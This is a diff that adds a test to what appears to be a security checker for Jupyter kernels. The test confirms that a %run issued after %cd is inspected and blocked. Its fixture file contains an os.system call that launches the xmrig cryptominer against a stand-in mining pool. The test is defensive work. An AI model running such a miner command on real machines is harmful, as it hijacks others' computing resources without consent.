@@ -212,6 +212,25 @@ def test_saved_file_run_with_percent_run_is_checked(server, shared_kernel, marke
     assert answer["action"] == "block"
 
 
+
+def test_percent_run_after_percent_cd_reads_the_kernels_folder(server, fresh_kernel, marker):
+    """%cd in one cell, %run in the next: the file is read from where the kernel is now."""
+    sub = f"sub_{marker.path.name}"
+    body = marker.code() + "\nimport os\nos.system('./xmrig -o stratum+tcp://pool.example.net:3333 -u W -p x')\n"
+    assert server.request("PUT", f"/api/contents/{sub}", {"type": "directory"})[0] in (200, 201)
+    assert server.request("PUT", f"/api/contents/{sub}/job.py",
+                          {"type": "file", "format": "text", "content": body})[0] in (200, 201)
+    k = server.kernel(fresh_kernel)
+    try:
+        moved = k.run(f"%cd {sub}")
+        msg_id = k.execute("%run job.py")
+        r = k.collect(msg_id)
+    finally:
+        k.close()
+    assert moved["reply"]["content"]["status"] == "ok"
+    assert refused(r, msg_id) and not marker.exists()
+    assert "job.py line 3: os.system(" in "\n".join(r["reply"]["content"]["traceback"])
+
 def test_a_cell_carries_its_notebooks_location(server, marker):
     """A cell checked for a kernel whose session is a notebook inside a detection
     benchmark's repository reads with the same ``location`` a scan of that notebook would:
